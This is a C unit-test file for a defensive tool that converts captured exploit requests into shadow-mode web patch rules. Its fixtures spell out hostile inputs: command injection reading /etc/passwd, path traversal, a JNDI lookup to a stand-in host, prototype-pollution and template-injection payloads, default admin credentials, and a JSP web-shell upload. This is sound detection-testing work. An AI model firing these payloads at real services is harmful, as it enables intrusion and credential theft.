/* SPDX-License-Identifier: Apache-2.0 */
/* What becomes of exploits: the conditions as one text, "SCOPE | CONDITION", and which requests
 * were left out. */
#include "common/file.h"
#include "common/generalise/generalise.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stdio.h>
#include <string.h>

#include <cmocka.h>

enum { SHOWN_CAP = 4096 };

struct shown {
    char text[SHOWN_CAP];
    size_t len;
};

static void add(struct shown *shown, struct guard_span bytes)
{
    assert_true(bytes.len < SHOWN_CAP - shown->len);
    if (bytes.len > 0)
        memcpy(shown->text + shown->len, bytes.ptr, bytes.len);
    shown->len += bytes.len;
    shown->text[shown->len] = '\0';
}

static void add_text(struct shown *shown, const char *text)
{
    add(shown, (struct guard_span){(const uint8_t *)text, strlen(text)});
}

static void add_list(struct shown *shown, const struct guard_span *list, uint32_t count)
{
    for (uint32_t i = 0; i < count; i++) {
        add_text(shown, " ");
        add(shown, list[i]);
    }
}

static void add_condition(struct shown *shown, const struct guard_patch_condition *condition)
{
    add_text(shown, "(");
    add_text(shown, guard_operator_name(condition->op));
    if (condition->places != 0) {
        add_text(shown, " ");
        add_text(shown, guard_place_name(condition->places));
    }
    add_text(shown, condition->on_names ? " of-name" : "");
    add_list(shown, condition->names, condition->name_count);
    add_text(shown, condition->text_count > 0 ? ":" : "");
    add_list(shown, condition->texts, condition->text_count);
    for (int i = 0; i < GUARD_LIKENESS_COUNT; i++) {
        if ((condition->likeness >> i & 1) != 0) {
            add_text(shown, " like ");
            add_text(shown, guard_likeness_name((enum guard_likeness)i));
        }
    }
    for (uint32_t i = 0; i < condition->child_count; i++)
        add_condition(shown, &condition->children[i]);
    add_text(shown, ")");
}

static const char *shown(const char *description)
{
    static struct shown shown;
    struct guard_alloc alloc = heap_alloc();
    struct exploit exploit;
    struct generalised made;
    struct guard_err err = {.text = ""};
    struct guard_span bytes = {(const uint8_t *)description, strlen(description)};
    shown = (struct shown){.len = 0};
    assert_int_equal(exploit_read(&exploit, "f", bytes, EXPLOIT_AUTO, &alloc, &err), GUARD_OK);
    assert_int_equal(generalise(&made, &exploit, NULL, &alloc, &err), GUARD_OK);
    add_text(&shown, generalise_narrowness_name(made.narrowness));
    if (made.narrowness != GENERALISE_NOTHING) {
        assert_int_equal(guard_patch_check(&made.patch, &err), GUARD_OK);
        assert_int_equal(made.patch.mode, GUARD_PATCH_SHADOW);
        add_list(&shown, made.patch.methods, made.patch.method_count);
        add_list(&shown, made.patch.endpoints, made.patch.endpoint_count);
        add_text(&shown, " | ");
        add_condition(&shown, &made.patch.when);
    }
    for (uint32_t i = 0; i < exploit.request_count; i++)
        add_text(&shown, made.steps[i] == GENERALISE_STEP_STATE   ? " state"
                         : made.steps[i] == GENERALISE_STEP_USUAL ? " usual"
                                                                  : "");
    assert_true(made.line_count > 0);
    generalise_fini(&made);
    exploit_fini(&exploit);
    return shown.text;
}

static void test_syntax_is_kept_and_commands_are_not(void **state)
{
    (void)state;
    assert_string_equal(
        shown("curl 'http://h/tools/ping.cgi?host=1.2.3.4;cat+/etc/passwd&unit=7' -A x"),
        "syntax GET HEAD /tools/ping.cgi | (likeness query host like shell)");
    assert_string_equal(
        shown("curl 'http://h/tools/ping.cgi?host=9.9.9.9%3bcat%20%2Fetc%2Fhosts' -A x"),
        "syntax GET HEAD /tools/ping.cgi | (likeness query host like shell)");
    assert_string_equal(shown("POST /render HTTP/1.1\nHost: h\nContent-Type: application/json\n\n"
                              "{\"page\":{\"__proto__\":{\"x\":1}}}"),
                        "syntax POST /render | (likeness json of-name like prototype)");
    assert_string_equal(shown("GET /x HTTP/1.1\nHost: h\nUser-Agent: ${jndi:ldap://a.example/b}\n"),
                        "syntax GET HEAD /x | (likeness header user-agent like lookup)");
}

static void test_paths(void **state)
{
    (void)state;
    assert_string_equal(shown("GET /static/..%2f..%2fetc/passwd HTTP/1.1\nHost: h\n"),
                        "syntax GET HEAD | (all(traversal path)(begins path: /static))");
    assert_string_equal(shown("GET /shop/orders/4711/export.do HTTP/1.1\nHost: h\n"),
                        "endpoint GET HEAD /shop/orders/{}/export.do | (present path)");
    assert_string_equal(shown("GET /a/Sync.asmx?op=Run HTTP/1.1\nHost: h\n"),
                        "values GET HEAD | (all(equals path: /a/Sync.asmx)(equals query op: Run))");
    assert_string_equal(shown("GET / HTTP/1.1\nHost: h\nUser-Agent: Mozilla/5.0\n"),
                        "nothing usual");
}

static void test_words_and_choices(void **state)
{
    (void)state;
    assert_string_equal(shown("POST /manage/session.php HTTP/1.1\nHost: h\n"
                              "Content-Type: application/x-www-form-urlencoded\n\n"
                              "username=admin&password=factory"),
                        "values POST /manage/session.php | "
                        "(all(equals form username: admin)(equals form password: factory))");
    assert_string_equal(shown("POST /manage/action.php HTTP/1.1\nHost: h\n"
                              "Content-Type: application/x-www-form-urlencoded\n\n"
                              "act=addAdmin&username=eve&level=15"),
                        "values POST /manage/action.php | (equals form act: addAdmin)");
}

static void test_tokens_are_free(void **state)
{
    (void)state;
    assert_string_equal(shown("id: x\nset: {r: randomLowercase(8)}\nrules:\n  r0:\n    request:\n"
                              "      method: GET\n"
                              "      path: /files/{{r}}/view?cb={{r}}&q=a%22{{r}}%22+1(x)\n"),
                        "values GET HEAD /files/{}/view | (regex query q: "
                        "a\"[^\"]{0,256}\"(?:\\s|/\\*\\*/)+[0-9]{1,32}\\(x\\))");
}

static void test_steps(void **state)
{
    (void)state;
    assert_string_equal(shown("id: x\nset: {r: randomLowercase(8)}\nrules:\n"
                              "  r0:\n    request: {method: GET, path: /portal/start}\n"
                              "  r1:\n    request: {method: GET, path: '/portal/a?x=${jndi:ldap://"
                              "{{r}}.example}'}\n"
                              "  r2:\n    request: {method: GET, path: '/portal/{{r}}.txt'}\n"
                              "expression: r0() && r1() && r2()\n"),
                        "syntax GET HEAD /portal/a | (likeness query x like lookup) state state");
    assert_string_equal(shown("id: x\nrules:\n"
                              "  r0:\n    request: {method: GET, path: /portal/secret.cfg}\n"
                              "  r1:\n    request: {method: GET, path: /portal/other.cfg}\n"
                              "expression: r0() || r1()\n"),
                        "endpoint GET HEAD /portal/secret.cfg /portal/other.cfg | (present path)");
}

static void test_files(void **state)
{
    (void)state;
    static const char head[] = "POST /up/load.do HTTP/1.1\nHost: h\n"
                               "Content-Type: multipart/form-data; boundary=b\n\n"
                               "--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"";
    static const char tail[] = "\"\r\n\r\nx\r\n--b--\r\n";
    char text[512];
    snprintf(text, sizeof(text), "%sa.txt%s", head, tail);
    assert_string_equal(shown(text), "names POST /up/load.do | (present file f)");
    snprintf(text, sizeof(text), "%sa.jsp%s", head, tail);
    assert_non_null(strstr(shown(text), "syntax POST /up/load.do | (regex file f: \\.(?:jspx?"));
}

/* Of a service that knows the parameter. */
static bool is_host(void *ctx, uint32_t request, const struct guard_value *value)
{
    (void)ctx;
    (void)request;
    return value->name.len == 4 && memcmp(value->name.ptr, "host", 4) == 0;
}

static void test_what_is_normal_is_no_evidence(void **state)
{
    (void)state;
    const struct generalise_known known = {.normal = is_host};
    struct guard_alloc alloc = heap_alloc();
    struct exploit exploit;
    struct generalised made;
    struct guard_err err;
    const char *text = "curl 'http://h/tools/ping.cgi?host=;id&unit=;id'";
    assert_int_equal(exploit_read(&exploit, "f",
                                  (struct guard_span){(const uint8_t *)text, strlen(text)},
                                  EXPLOIT_AUTO, &alloc, &err),
                     GUARD_OK);
    assert_int_equal(generalise(&made, &exploit, &known, &alloc, &err), GUARD_OK);
    assert_int_equal(made.patch.when.op, GUARD_OPERATOR_LIKENESS);
    assert_memory_equal(made.patch.when.names[0].ptr, "unit", 4);
    generalise_fini(&made);
    exploit_fini(&exploit);
}

static void narrowed(const char *benign, struct shown *out)
{
    const struct generalise_known known = {.benign = {(const uint8_t *)benign, strlen(benign)}};
    struct guard_alloc alloc = heap_alloc();
    struct exploit exploit;
    struct generalised made;
    struct guard_err err;
    const char *text = "curl 'http://h/page?text={{constructor.constructor(process)}}'";
    assert_int_equal(exploit_read(&exploit, "f",
                                  (struct guard_span){(const uint8_t *)text, strlen(text)},
                                  EXPLOIT_AUTO, &alloc, &err),
                     GUARD_OK);
    assert_int_equal(generalise(&made, &exploit, &known, &alloc, &err), GUARD_OK);
    *out = (struct shown){.len = 0};
    add_condition(out, &made.patch.when);
    /* SQL and PHP don't mind how words are spelled. */
    if (made.patch.when.child_count > 0)
        assert_true(made.patch.when.children[1].ignore_case);
    generalise_fini(&made);
    exploit_fini(&exploit);
}

/* Words that nobody else sends; where there are none it stays as it is. */
static void test_words_that_benign_requests_lack_narrow(void **state)
{
    struct shown shown;
    (void)state;
    narrowed("", &shown);
    assert_string_equal(shown.text, "(likeness query text like prototype)");
    narrowed("/page?text={{process}}", &shown);
    assert_string_equal(shown.text, "(all(likeness query text like prototype)"
                                    "(contains query text: constructor))");
    narrowed("/page?text={{process}} Constructor", &shown);
    assert_string_equal(shown.text, "(likeness query text like prototype)");
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_syntax_is_kept_and_commands_are_not),
        cmocka_unit_test(test_paths),
        cmocka_unit_test(test_words_and_choices),
        cmocka_unit_test(test_tokens_are_free),
        cmocka_unit_test(test_words_that_benign_requests_lack_narrow),
        cmocka_unit_test(test_steps),
        cmocka_unit_test(test_files),
        cmocka_unit_test(test_what_is_normal_is_no_evidence),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
